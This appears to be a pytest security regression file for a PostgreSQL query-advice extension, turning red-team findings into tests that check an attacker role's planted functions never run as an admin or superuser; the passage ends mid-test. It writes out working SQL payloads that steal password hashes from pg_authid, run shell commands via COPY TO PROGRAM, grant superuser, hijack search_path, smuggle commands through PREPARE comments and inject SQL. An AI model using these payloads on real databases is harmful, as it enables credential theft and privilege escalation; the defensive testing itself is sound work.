"""The red-team findings against replays, each as a test that fails on the code that had it.

Cast: `mallory` (LOGIN + optidb_reader, owns schema m), `adm` (an optidb_admin, not a
superuser), `victim` (a plain role with a private schema), and the superuser. mallory's
m.harm(tag) does nothing when mallory runs it; run by anyone else it logs who ran it and, as a
superuser, copies password hashes, runs a shell command and makes mallory a superuser. Every
test ends by checking that none of that happened."""

import contextlib
import glob
import os
import re
import threading
import time
import uuid

import psycopg
import pytest

from conftest import HYPOPG, connect, new_database, scalar

MARKERS = "/tmp/optidb_rt_pwned_"

BASE = """
CREATE TABLE m.log (sess name, cur name, note text);
GRANT INSERT, SELECT ON m.log TO PUBLIC;
GRANT USAGE ON SCHEMA m TO PUBLIC;
CREATE FUNCTION m.harm(tag text) RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  IF pg_catalog.current_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
    INSERT INTO m.log VALUES (pg_catalog.session_user(), pg_catalog.current_user(), tag);
    IF pg_catalog.has_table_privilege('pg_catalog.pg_authid', 'SELECT') THEN
      INSERT INTO m.log SELECT pg_catalog.session_user(), pg_catalog.current_user(),
             tag || ': ' || rolpassword FROM pg_catalog.pg_authid WHERE rolpassword IS NOT NULL;
      EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'touch MARKERS' || tag);
      EXECUTE 'ALTER ROLE "MALLORY" SUPERUSER';
    END IF;
  END IF;
  RETURN 1;
END $f$;
CREATE FUNCTION m.harm_i(tag text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN RETURN (SELECT m.harm(tag)); END $f$;
"""


class World:
    def __init__(self, db, roles):
        self.db, self.roles = db, roles

    def conn(self, who, **kw):
        return connect(self.db, user=self.roles.get(who, who), **kw)

    def as_mallory(self, sql):
        with self.conn("mallory") as c:
            c.execute(sql.replace("MALLORY", self.roles["mallory"]))

    def assert_unharmed(self):
        with self.conn("postgres") as su:
            assert not scalar(su, "SELECT rolsuper FROM pg_roles WHERE rolname = %s",
                              (self.roles["mallory"],)), "mallory became a superuser"
            logged = su.execute("SELECT sess, cur, note FROM m.log").fetchall()
            assert logged == [], f"mallory's code ran as someone else: {logged}"
        assert glob.glob(MARKERS + "*") == [], "a shell command ran"


@pytest.fixture
def world():
    tag = uuid.uuid4().hex[:6]
    roles = {k: f"rt_{k}_{tag}" for k in ("mallory", "adm", "victim")}
    with connect("postgres") as su:
        su.execute(f"CREATE ROLE \"{roles['mallory']}\" LOGIN IN ROLE optidb_reader")
        su.execute(f"CREATE ROLE \"{roles['adm']}\" LOGIN IN ROLE optidb_admin")
        su.execute(f"CREATE ROLE \"{roles['victim']}\" LOGIN PASSWORD 'victim-secret'")
        su.execute("ALTER ROLE postgres PASSWORD 'superuser-secret'")
    try:
        with new_database(extensions=("pg_stat_statements", *HYPOPG, "optidb")) as db:
            with connect(db) as su:
                su.execute(f"CREATE SCHEMA m AUTHORIZATION \"{roles['mallory']}\"")
                su.execute(f"CREATE SCHEMA vs AUTHORIZATION \"{roles['victim']}\"")
                su.execute("CREATE TABLE public.shared_t AS "
                           "SELECT g AS id, g % 500 AS v FROM generate_series(1, 20000) g")
                su.execute("GRANT SELECT ON public.shared_t TO PUBLIC")
                su.execute("ANALYZE public.shared_t")
                if HYPOPG:
                    su.execute("GRANT SELECT ON hypopg_list_indexes TO PUBLIC")
            w = World(db, roles)
            w.as_mallory(BASE.replace("MARKERS", MARKERS))
            with connect(db) as su:
                su.execute("SELECT pg_stat_statements_reset()")
            yield w
    finally:
        for f in glob.glob(MARKERS + "*"):
            os.remove(f)
        with connect("postgres") as su:
            su.execute("ALTER ROLE postgres PASSWORD NULL")
            for name in roles.values():
                su.execute(f'DROP ROLE IF EXISTS "{name}"')


def make_customers(w):
    """public.customers (50k rows), the superuser's, readable by everyone."""
    with w.conn("postgres") as su:
        su.execute("CREATE TABLE public.customers AS SELECT g AS id, g % 300 AS status, "
                   "'u' || g || '@x.org' AS email FROM generate_series(1, 50000) g")
        su.execute("GRANT SELECT ON public.customers TO PUBLIC")
        su.execute("ANALYZE public.customers")


def advice_serving(c, text):
    """(rec_id, query_id) of a recommendation serving the statement whose text has `text`."""
    return c.execute("SELECT r.rec_id, q.id FROM optidb.recommend() r "
                     "JOIN optidb.query q ON q.id = ANY (r.query_ids) "
                     "WHERE strpos(q.raw_sql, %s) > 0 LIMIT 1", (text,)).fetchone()


def plan_errors(c, fragment):
    """explain_error of every plan captured for statements whose text contains `fragment`."""
    return [r[0] for r in c.execute(
        "SELECT p.explain_error FROM optidb.plan p JOIN optidb.query q ON q.id = p.query_id "
        "WHERE strpos(q.raw_sql, %s) > 0", (fragment,))]


def scan(w, who):
    with w.conn(who) as c:
        c.execute("SELECT * FROM optidb.scan()")


@pytest.mark.hypopg
def test_a_setting_changed_by_replayed_code_does_not_outlive_the_replay(world):
    """Finding 1: a SET in an immutable function, folded while planning, survived the replay
    and sent optidb's own later SQL to mallory's look-alike `=` operator."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.setsp() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN PERFORM pg_catalog.set_config('search_path', 'm, pg_catalog, public', false);
              RETURN 1; END $f$;
        CREATE FUNCTION m.eq8(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $f$
        BEGIN PERFORM m.harm('setting'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $f$;
        CREATE OPERATOR m.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = m.eq8)""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT m.setsp(), count(*) FROM public.shared_t WHERE v = %s", (i,))
    for who in ("adm", "postgres"):
        with w.conn(who) as c:
            before = scalar(c, "SHOW search_path")
            c.execute("SELECT * FROM optidb.scan()")
            for rec, qid in c.execute("SELECT rec_id, query_ids[1] FROM optidb.recommend() "
                                      "WHERE kind LIKE '%index'").fetchall():
                c.execute("SELECT * FROM optidb.simulate(%s, %s)", (qid, rec))
            assert scalar(c, "SHOW search_path") == before
    w.assert_unharmed()


@pytest.mark.libxml
def test_the_callers_prepared_statements_are_untouched(world):
    """Finding 2: a domain CHECK evaluated while the statement was parsed replaced the caller's
    prepared statement with one that ran mallory's code as the caller."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.chk(text[]) RETURNS boolean LANGUAGE plpgsql AS $f$
        BEGIN
          IF pg_catalog.session_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
            IF EXISTS (SELECT FROM pg_catalog.pg_prepared_statements
                       WHERE name OPERATOR(pg_catalog.=) 'pay') THEN
              EXECUTE 'DEALLOCATE pay';
              EXECUTE 'PREPARE pay(int) AS SELECT m.harm(''prepared'') AS id';
            END IF;
            PERFORM m.harm('parse-time');
          END IF;
          RETURN true;
        END $f$;
        CREATE DOMAIN m.dom AS text CHECK (m.chk(ARRAY[VALUE]))""")
    with w.conn("mallory") as c:
        for _ in range(3):
            c.execute("SELECT * FROM XMLTABLE('/r' PASSING '<r><a>1</a></r>' COLUMNS a text "
                      "PATH 'a', b m.dom[] PATH 'b' DEFAULT '{x}'), pg_sleep(0.01)")
    with w.conn("adm") as c:
        c.execute("PREPARE pay(int) AS SELECT id FROM public.shared_t WHERE id = $1")
        c.execute("SELECT * FROM optidb.scan()")
        assert "public.shared_t" in scalar(
            c, "SELECT statement FROM pg_prepared_statements WHERE name = 'pay'")
        assert c.execute("EXECUTE pay(1)").fetchall() == [(1,)]
    w.assert_unharmed()


def test_no_schema_of_another_role_is_guessed_for_a_statement(world):
    """Finding 3: a superuser's statement on a temporary table (gone at replay time) was
    replayed against mallory's same-named view, as the superuser."""
    w = world
    w.as_mallory("CREATE VIEW m.tmp_report AS SELECT m.harm_i('guessed') AS id, 'x'::text AS "
                 "label; GRANT SELECT ON m.tmp_report TO PUBLIC")
    with w.conn("postgres") as c:
        c.execute("CREATE TEMP TABLE tmp_report AS SELECT g AS id FROM generate_series(1, 100) g")
        for i in range(3):
            c.execute("SELECT count(*) FROM tmp_report WHERE id > %s", (i,))
    scan(w, "adm")
    with w.conn("postgres") as su:
        src, err = su.execute(
            "SELECT p.path_source, p.explain_error FROM optidb.plan p JOIN optidb.query q "
            "ON q.id = p.query_id WHERE q.raw_sql LIKE '%FROM tmp_report%'").fetchone()
        assert err and "tmp_report" in err, err
    w.assert_unharmed()


def test_expression_indexes_are_advised_only_over_trusted_functions(world):
    """Findings 4 and 5: advice to index m.normalize_email(email) on the superuser's table,
    which its owner would build (or real mode would build as the owner)."""
    w = world
    make_customers(w)
    w.as_mallory("""
        CREATE FUNCTION m.normalize_email(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
        PARALLEL SAFE AS $f$
        BEGIN PERFORM m.harm_i('index-expression'); RETURN pg_catalog.lower($1); END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT id FROM public.customers WHERE m.normalize_email(email) = %s",
                      (f"u{i}@x.org",))
    with w.conn("postgres") as c:
        for i in range(3):
            c.execute("SELECT id, email FROM public.customers WHERE status = %s", (i,))
    scan(w, "adm")
    with w.conn("adm") as c:
        ddls = [r[0] for r in c.execute("SELECT ddl FROM optidb.recommendation")]
        assert [d for d in ddls if "(status)" in d], ddls
        assert not [d for d in ddls if "normalize_email" in d], ddls
    w.assert_unharmed()


def test_the_callers_temporary_objects_are_not_seen_by_replays(world):
    """Finding 6: an admin's temporary view shadowed the table of a superuser's statement."""
    w = world
    with w.conn("postgres") as c:
        for i in range(3):
            c.execute("SELECT count(*) FROM shared_t WHERE v = %s", (i,))
    with w.conn("adm") as c:
        c.execute("CREATE TEMP VIEW shared_t AS SELECT m.harm_i('temp-view') AS v, 1 AS id")
        c.execute("SELECT * FROM optidb.scan()")
        relations = scalar(
            c, "SELECT p.facts -> 'relation_scans' FROM optidb.plan p JOIN optidb.query q "
               "ON q.id = p.query_id WHERE q.raw_sql LIKE '%FROM shared_t WHERE v%' "
               "AND p.plan_kind = 'generic'")
        assert relations and relations[0]["relation"] == "shared_t", relations
    w.assert_unharmed()


def test_the_callers_session_state_is_invisible_to_replayed_code(world):
    """Finding 7: mallory's function raised the admin's custom settings, prepared statements,
    cursors and application_name into its stored explain_error."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.peek() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN
          IF pg_catalog.session_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
            RAISE EXCEPTION 'PEEK user=% token=% prepared=% cursors=% app=%',
              pg_catalog.session_user(), pg_catalog.current_setting('app.token', true),
              (SELECT pg_catalog.string_agg(statement, ' | ') FROM pg_catalog.pg_prepared_statements),
              (SELECT pg_catalog.string_agg(statement, ' | ') FROM pg_catalog.pg_cursors),
              pg_catalog.current_setting('application_name');
          END IF;
          RETURN 1;
        END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT m.peek(), count(*) FROM public.shared_t WHERE v = %s", (i,))
    with w.conn("adm", application_name="billing-console") as c:
        c.execute("SET app.token = 'tok-ADMIN-SECRET'")
        c.execute("PREPARE pay(int) AS SELECT 'admin-prepared-literal', $1")
        c.execute("BEGIN")
        c.execute("DECLARE cur1 CURSOR WITH HOLD FOR SELECT 'cursor-secret-literal'")
        c.execute("COMMIT")
        c.execute("SELECT * FROM optidb.scan()")
    with w.conn("mallory") as c:
        stored = " ".join(r[0] or "" for r in c.execute("SELECT explain_error FROM optidb.plan"))
    for secret in ("tok-ADMIN-SECRET", "admin-prepared-literal", "cursor-secret-literal",
                   "billing-console", w.roles["adm"]):
        assert secret not in stored, (secret, stored)
    w.assert_unharmed()


def test_advice_shared_with_another_roles_statement_is_not_shown_to_a_reader(world):
    """Finding 8: a merged recommendation showed the victim's statement text to mallory."""
    w = world
    with w.conn("victim") as c:
        c.execute("CREATE TABLE vs.secret_t AS SELECT g AS id, 'CARD-' || g AS card "
                  "FROM generate_series(1, 20000) g")
        c.execute("ANALYZE vs.secret_t")
        for i in range(5):
            c.execute("SELECT id, card FROM vs.secret_t WHERE card <> 'TOPSECRET-literal' "
                      "AND id > %s ORDER BY id LIMIT 10 OFFSET 500", (i,))
    w.as_mallory("CREATE TABLE m.secret_t AS SELECT g AS id FROM generate_series(1, 20000) g")
    with w.conn("mallory") as c:
        c.execute("SELECT id FROM m.secret_t ORDER BY id LIMIT 1 OFFSET 1")
    scan(w, "adm")
    with w.conn("mallory") as c:
        seen = " ".join(str(r) for r in c.execute("SELECT * FROM optidb.recommend()"))
        assert "TOPSECRET" not in seen and not re.search(r"\bcard\b", seen), seen
    w.assert_unharmed()


@pytest.mark.hypopg
def test_no_lock_or_hypothetical_index_stays_behind_in_the_callers_session(world):
    """Finding 9: a session advisory lock and hypothetical indexes taken by replayed code
    stayed in the admin's backend after the rolled-back real simulation."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.nontx() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
        BEGIN
          IF pg_catalog.session_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
            PERFORM pg_catalog.pg_advisory_lock(1869640809, 2);
            PERFORM public.hypopg_create_index('CREATE INDEX ON public.shared_t (id)');
          END IF;
          RETURN 1;
        END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT m.nontx(), count(*) FROM public.shared_t WHERE v = %s", (i,))
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.scan()")
        rec, qid = advice_serving(c, "m.nontx()")
        c.execute("SELECT * FROM optidb.simulate(%s, %s, 'real')", (qid, rec))
        assert scalar(c, "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' "
                         "AND pid = pg_backend_pid()") == 0
        assert scalar(c, "SELECT count(*) FROM hypopg_list_indexes") == 0
    with w.conn("postgres") as su:
        assert scalar(su, "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'") == 0
    w.assert_unharmed()


def test_replayed_code_cannot_stretch_real_modes_time_limits(world):
    """Finding 10: the statement raised optidb.statement_timeout during the 'before' run and
    then slept, holding the index build's lock for 25 s."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.slow() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
        BEGIN
          IF pg_catalog.session_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
            IF pg_catalog.current_setting('optidb.statement_timeout') OPERATOR(pg_catalog.<>) '10min' THEN
              PERFORM pg_catalog.set_config('optidb.statement_timeout', '10min', false);
            ELSE
              PERFORM pg_catalog.pg_sleep(25);
            END IF;
          END IF;
          RETURN 1;
        END $f$""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT m.slow(), count(*) FROM public.shared_t WHERE v = %s", (i,))
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.scan()")
        rec, qid = advice_serving(c, "m.slow()")
        started = time.monotonic()
        c.execute("SELECT * FROM optidb.simulate(%s, %s, 'real')", (qid, rec))
        assert time.monotonic() - started < 15
    w.assert_unharmed()


def test_readers_cannot_block_optidbs_jobs(world):
    """Finding 11: mallory held optidb's advisory lock keys and stalled every scan."""
    w = world
    with w.conn("mallory") as m, w.conn("adm") as a:
        m.execute("SELECT pg_advisory_lock(1869640809, k) FROM generate_series(1, 2) k")
        m.execute("SELECT pg_advisory_lock(1869640809, 1000 + k) FROM generate_series(0, 9) k")
        a.execute("SET statement_timeout = '20s'")
        a.execute("SELECT * FROM optidb.scan()")
        a.execute("SELECT * FROM optidb.refresh()")
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            m.execute("SELECT * FROM optidb.job_lock FOR UPDATE")


def test_column_statistics_follow_column_privileges(world):
    """Finding 12: optidb.schema_column showed statistics of a table mallory cannot read."""
    w = world
    with w.conn("victim") as c:
        c.execute("CREATE TABLE vs.private_t AS SELECT g AS id FROM generate_series(1, 1000) g")
        c.execute("ANALYZE vs.private_t")
    scan(w, "postgres")  # pg_stats shows a scan only the columns its caller may read
    with w.conn("adm") as c:
        assert scalar(c, "SELECT count(*) FROM optidb.schema_column sc JOIN optidb.schema_table "
                         "st USING (relid) WHERE st.relname = 'private_t'") == 1
    with w.conn("mallory") as c:
        assert scalar(c, "SELECT count(*) FROM optidb.schema_column sc JOIN optidb.schema_table "
                         "st USING (relid) WHERE st.relname = 'private_t'") == 0
        assert scalar(c, "SELECT count(*) FROM optidb.schema_column sc JOIN optidb.schema_table "
                         "st USING (relid) WHERE st.relname = 'shared_t'") == 2


def test_declared_parameter_types_cannot_smuggle_commands(world):
    """Finding 13: a comment in a PREPARE's declared types turned the statement's body into
    extra commands that left a temporary view in the admin's session."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.inject() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$
        BEGIN
          IF pg_catalog.session_user() OPERATOR(pg_catalog.<>) 'MALLORY' THEN
            EXECUTE 'CREATE OR REPLACE TEMP VIEW shared_t AS SELECT m.harm_i(''inject'') AS v, 1 AS id';
          END IF;
          RETURN 1;
        END $f$""")
    with w.conn("postgres") as c:
        for i in range(3):
            c.execute("SELECT count(*) FROM shared_t WHERE v = %s", (i,))
    with w.conn("mallory") as c:
        c.execute("PREPARE q(int -- x\n) AS SELECT /*\n) AS SELECT $1; SELECT m.inject(); "
                  "SELECT 1 -- */ $1")
        for i in range(3):
            c.execute(f"EXECUTE q({i})")
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.scan()")
        assert scalar(c, "SELECT count(*) FROM pg_class "
                         "WHERE relnamespace = pg_my_temp_schema()") == 0
        c.execute("SELECT * FROM optidb.scan()")
        c.execute("SELECT count(*) FROM shared_t WHERE v = 1")
    w.assert_unharmed()


# Round 2: the replay-worker design attacked.


@pytest.mark.hypopg
def test_expressions_over_anyones_types_or_domains_are_never_advised(world):
    """Round 2, findings 1 and 2: a cast to mallory's domain hid her CHECK function from the
    trust check; it ran as the superuser when hypopg parsed the advised expression in the
    superuser's replay (the advice also covered the superuser's statement), and as the table
    owner in real mode and when the shown DDL was applied."""
    w = world
    make_customers(w)
    w.as_mallory("""
        CREATE FUNCTION m.chk(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN PERFORM m.harm('domain-check'); RETURN true; END $f$;
        CREATE DOMAIN m.dom AS text CHECK (m.chk(VALUE))""")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT id FROM public.customers WHERE (lower(email))::m.dom = %s",
                      (f"u{i}@x.org",))
            c.execute("SELECT count(*) FROM public.customers WHERE status = %s "
                      "AND array_position('{x}'::m.dom[], email::m.dom) = %s", (i, 1))
    with w.conn("postgres") as c:
        for i in range(3):
            c.execute("SELECT id, email FROM public.customers WHERE status = %s", (i,))
    scan(w, "adm")
    with w.conn("adm") as c:
        planned = scalar(c, "SELECT count(*) FROM optidb.plan p JOIN optidb.query q "
                            "ON q.id = p.query_id WHERE q.raw_sql LIKE '%%m.dom%%' "
                            "AND p.explain_error IS NULL")
        assert planned >= 2, "mallory's statements were never replayed"
        ddls = [r[0] for r in c.execute("SELECT ddl FROM optidb.recommendation")]
        assert [d for d in ddls if "(status" in d], ddls
        assert not [d for d in ddls if "dom" in d or "array_position" in d], ddls
        for rec, qids in c.execute("SELECT rec_id, query_ids FROM optidb.recommend() "
                                   "WHERE kind LIKE '%%index'").fetchall():
            for qid in qids:
                c.execute("SELECT * FROM optidb.simulate(%s, %s)", (qid, rec))
                c.execute("SELECT * FROM optidb.simulate(%s, %s, 'real')", (qid, rec))
    w.assert_unharmed()


def test_real_mode_builds_with_a_search_path_nobody_can_shadow(world):
    """Round 2, finding 3: the index was built as the table owner in mallory's recorded
    search_path (m first), so her m.lower, created after the advice, ran as the owner."""
    w = world
    make_customers(w)
    with w.conn("mallory") as c:
        c.execute("SET search_path = m, pg_catalog, public")
        for i in range(3):
            c.execute("SELECT id FROM public.customers WHERE lower(email) = %s",
                      (f"u{i}@x.org",))
    scan(w, "adm")
    with w.conn("adm") as c:
        rec, qid, ddl = c.execute("SELECT rec_id, query_ids[1], ddl FROM optidb.recommend() "
                                  "WHERE kind = 'expression_index'").fetchone()
        assert "(pg_catalog.lower(email))" in ddl, ddl
    w.as_mallory("""
        CREATE FUNCTION m.lower(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN PERFORM m.harm('shadowed-lower'); RETURN pg_catalog.lower($1); END $f$""")
    with w.conn("adm") as c:
        c.execute("SELECT * FROM optidb.simulate(%s, %s, 'real')", (qid, rec))
    w.assert_unharmed()


def test_a_statement_on_a_temporary_table_is_not_replayed_on_a_look_alike(world):
    """Round 2, finding 4: the superuser's statement on its temporary table was replayed in its
    recorded search_path, where the name found mallory's view instead."""
    w = world
    w.as_mallory("""
        CREATE VIEW m.tmp_report AS SELECT m.harm_i('temp-look-alike') AS id, 'x'::text AS label;
        GRANT SELECT ON m.tmp_report TO PUBLIC""")
    with w.conn("postgres") as c:
        c.execute('SET search_path = "$user", public, m')
        c.execute("CREATE TEMP TABLE tmp_report AS "
                  "SELECT g AS id, 'r' || g AS label FROM generate_series(1, 1000) g")
        for i in range(3):
            assert scalar(c, "SELECT count(*) FROM tmp_report WHERE id > %s", (i,)) == 1000 - i
        scan(w, "adm")
    with w.conn("adm") as c:
        errors = plan_errors(c, "FROM tmp_report WHERE")
        assert errors and all(e and "did not use when it ran" in e for e in errors), errors
    w.assert_unharmed()


def test_text_run_with_standard_conforming_strings_off_is_not_replayed(world):
    """Round 2, finding 5: an application escaping input for standard_conforming_strings = off
    had its sampled text re-read with it on, where mallory's input became SQL."""
    w = world
    make_customers(w)
    attack = "' OR m.harm_i(chr(115)) = 1 --"
    escaped = attack.replace("\\", "\\\\").replace("'", "\\'")
    with w.conn("postgres") as app:
        app.execute("SET standard_conforming_strings = off")
        for _ in range(3):
            assert app.execute(
                f"SELECT id FROM public.customers WHERE email = '{escaped}'").fetchall() == []
    w.assert_unharmed()  # the application itself was never at risk
    scan(w, "adm")
    with w.conn("postgres") as c:
        kept = c.execute("SELECT s.sql_text FROM optidb.sample s JOIN optidb.query q "
                         "ON q.id = s.query_id WHERE q.raw_sql LIKE '%%customers WHERE email%%'"
                         ).fetchall()
        assert kept and all(t is None for (t,) in kept), kept
    w.assert_unharmed()


def test_replayed_code_that_catches_cancels_is_stopped(world):
    """Round 2, finding 6: optidb's time limits were query cancels; code catching
    query_canceled kept the replay worker, and the admin's scan() waiting for it, forever."""
    w = world
    w.as_mallory("""
        CREATE FUNCTION m.stubborn() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
        BEGIN
          IF pg_catalog.current_setting('application_name') OPERATOR(pg_catalog.=) 'self' THEN
            RETURN 1;
          END IF;
          LOOP
            BEGIN PERFORM pg_catalog.pg_sleep(3600);
            EXCEPTION WHEN query_canceled THEN NULL;
            END;
          END LOOP;
        END $f$""")
    with w.conn("mallory", application_name="self") as c:
        for i in range(3):
            c.execute("SELECT count(*) FROM public.shared_t WHERE v = %s AND m.stubborn() = 1",
                      (i,))
    with w.conn("adm") as c:
        c.execute("SET statement_timeout = '120s'")  # a regression fails instead of hanging
        c.execute("SET optidb.statement_timeout = '1s'")
        started = time.monotonic()
        c.execute("SELECT * FROM optidb.scan()")
        assert time.monotonic() - started < 60
        errors = plan_errors(c, "m.stubborn()")
        assert errors and all(e and "time" in e for e in errors), errors
        c.execute("SELECT * FROM optidb.snapshot()")
        deadline = time.monotonic() + 10
        # A warm replay worker may stay, idle on its latch (wait_event Extension), not stuck.
        stuck = ("SELECT count(*) FROM pg_stat_activity WHERE backend_type LIKE "
                 "'optidb%%replay' AND wait_event IS DISTINCT FROM 'Extension'")
        while scalar(c, stuck) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert scalar(c, stuck) == 0
    w.assert_unharmed()


def test_a_lock_held_on_a_readers_own_table_does_not_stall_scans(world):
    """Round 2, finding 7: table sizes were read with locks and no timeout, so mallory's
    ACCESS EXCLUSIVE lock on her own table stalled every scan() and snapshot()."""
    w = world
    w.as_mallory("CREATE TABLE m.t AS SELECT 1 AS x")
    with w.conn("mallory") as hold, w.conn("adm") as a:
        hold.execute("BEGIN")
        hold.execute("LOCK TABLE m.t IN ACCESS EXCLUSIVE MODE")
        a.execute("SET statement_timeout = '30s'")
        a.execute("SELECT * FROM optidb.scan()")
        a.execute("SELECT * FROM optidb.snapshot()")
        assert scalar(a, "SELECT count(*) FROM optidb.schema_table WHERE relname = 't'") == 1
        hold.execute("ROLLBACK")


@pytest.mark.hypopg
def test_advice_whose_simulations_cannot_run_is_not_rejected(world):
    """Round 2, finding 8: with every worker slot taken by mallory's parallel queries, every
    simulation failed and valid advice was marked rejected (and vanished from recommend())."""
    w = world
    make_customers(w)
    with w.conn("victim") as c:
        for i in range(3):
            c.execute("SELECT id, email FROM public.customers WHERE status = %s", (i,))
    scan(w, "adm")
    find = ("SELECT id, status FROM optidb.recommendation "
            "WHERE kind = 'missing_index' AND ddl LIKE '%%(status)%%'")
    with w.conn("adm") as c:
        rec, status = c.execute(find).fetchone()
        assert status == "open"
    # Pages enough that every parallel worker keeps scanning until cancelled (on 17 and 18 read
    # streams hand out several pages at once: with 9 pages some workers got none and exited).
    w.as_mallory("CREATE TABLE m.big AS SELECT g FROM generate_series(1, 200000) g; "
                 "ALTER TABLE m.big SET (parallel_workers = 8)")

    # No warm replay worker either (they would serve the simulations): every slot is taken.
    with w.conn("postgres") as su:
        su.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                   "WHERE backend_type = 'optidb warm replay'")
        deadline = time.monotonic() + 10
        while scalar(su, "SELECT count(*) > 0 FROM pg_stat_activity "
                         "WHERE backend_type = 'optidb warm replay'") \
                and time.monotonic() < deadline:
            time.sleep(0.05)

    def hog():
        with contextlib.suppress(psycopg.Error), w.conn("mallory") as h:
            h.execute("SET max_parallel_workers_per_gather = 8; SET parallel_setup_cost = 0; "
                      "SET parallel_tuple_cost = 0; SET min_parallel_table_scan_size = 0")
            h.execute("SELECT count(*) FROM m.big WHERE pg_sleep(0.1) IS NOT NULL")

    def free_slots(su):
        return scalar(su, "SELECT current_setting('max_worker_processes')::int - count(*) "
                          "FROM pg_stat_activity WHERE backend_type NOT IN "
                          "('client backend', 'autovacuum launcher', 'autovacuum worker', "
                          "'background writer', 'checkpointer', 'walwriter', "
                          "'archiver', 'startup', 'walsender', 'walreceiver', "
                          # auxiliary processes of 17/18, not in max_worker_processes
                          "'walsummarizer', 'slotsync worker', 'io worker')")

    # A terminated worker leaves pg_stat_activity before the postmaster frees its slot: the
    # first hog can find one slot short, and that slot is free again when the scan starts (the
    # simulation then runs). Hogs are added until every slot is taken.
    hogs = []
    try:
        with w.conn("postgres") as su:
            deadline = time.monotonic() + 20
            while free_slots(su) > 0 and time.monotonic() < deadline:
                hogs.append(threading.Thread(target=hog, daemon=True))
                hogs[-1].start()
                time.sleep(0.5)
            assert free_slots(su) <= 0, "the hogs did not take every worker slot"
        with w.conn("adm") as c:
            c.execute("SELECT * FROM optidb.scan()")
            error = scalar(c, "SELECT error FROM optidb.simulation WHERE rec_id = %s "
                              "ORDER BY id DESC LIMIT 1", (rec,))
            assert error and "slot" in error, error
            assert c.execute(find).fetchone() == (rec, "open")
            note = scalar(c, "SELECT note FROM optidb.recommend() WHERE rec_id = %s",
                          (rec,))
            assert note and "not proven" in note, note
    finally:
        with w.conn("postgres") as su:
            su.execute("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = %s",
                       (w.roles["mallory"],))
        for t in hogs:
            t.join(30)


def test_advice_names_the_schema_its_statement_read(world):
    """Round 2, finding 1 (variant): plans named relations without their schema, so
    mallory's statement on her look-alike m.customers was advised as public.customers and
    merged with the superuser's statements on the real one."""
    w = world
    make_customers(w)
    with w.conn("postgres") as su:
        su.execute("REVOKE SELECT ON public.customers FROM PUBLIC")
    w.as_mallory("CREATE TABLE m.customers AS SELECT g AS id, g % 300 AS status, "
                 "'u' || g || '@x.org' AS email FROM generate_series(1, 50000) g; "
                 "ANALYZE m.customers")
    with w.conn("mallory") as c:
        for i in range(3):
            c.execute("SELECT id, email FROM m.customers WHERE status = %s", (i,))
    with w.conn("postgres") as c:
        for i in range(3):
            c.execute("SELECT id, email FROM public.customers WHERE status = %s", (i,))
    scan(w, "adm")
    with w.conn("adm") as c:
        mine = scalar(c, "SELECT id FROM optidb.query WHERE raw_sql LIKE '%%FROM m.customers%%'")
        theirs = scalar(c, "SELECT id FROM optidb.query "
                           "WHERE raw_sql LIKE '%%FROM public.customers%%'")
        advice = c.execute("SELECT schemaname::text, query_ids FROM optidb.recommendation "
                           "WHERE kind = 'missing_index' AND tablename = 'customers'").fetchall()
        assert sorted(advice) == [("m", [mine]), ("public", [theirs])], advice
    w.assert_unharmed()


def test_an_unsampled_statement_is_not_replayed_over_a_look_alike_in_its_users_schema(world):
    """Round 3, finding A08: a superuser's statement with no sample (recording off in its
    session) was replayed in PostgreSQL's default path "$user", public, where mallory's schema
    named `postgres` now held a view `shared_t` over her function: it ran as the superuser."""
    w = world
    with w.conn("postgres") as su:
        su.execute(f"GRANT CREATE ON DATABASE \"{w.db}\" TO \"{w.roles['mallory']}\"")
        su.execute("SET optidb.enabled = off")
        for i in range(3):
            su.execute("SELECT count(*) FROM shared_t WHERE v = %s", (i,))
    w.as_mallory("""
        CREATE SCHEMA postgres;
        CREATE VIEW postgres.shared_t AS SELECT m.harm_i('user-schema') AS v, 1 AS id;
        GRANT USAGE ON SCHEMA postgres TO PUBLIC;
        GRANT SELECT ON postgres.shared_t TO PUBLIC""")
    scan(w, "adm")
    with w.conn("adm") as c:
        # Planned over the superuser's own table: "$user" is left out of the path, since the
        # schema it names belongs to mallory.
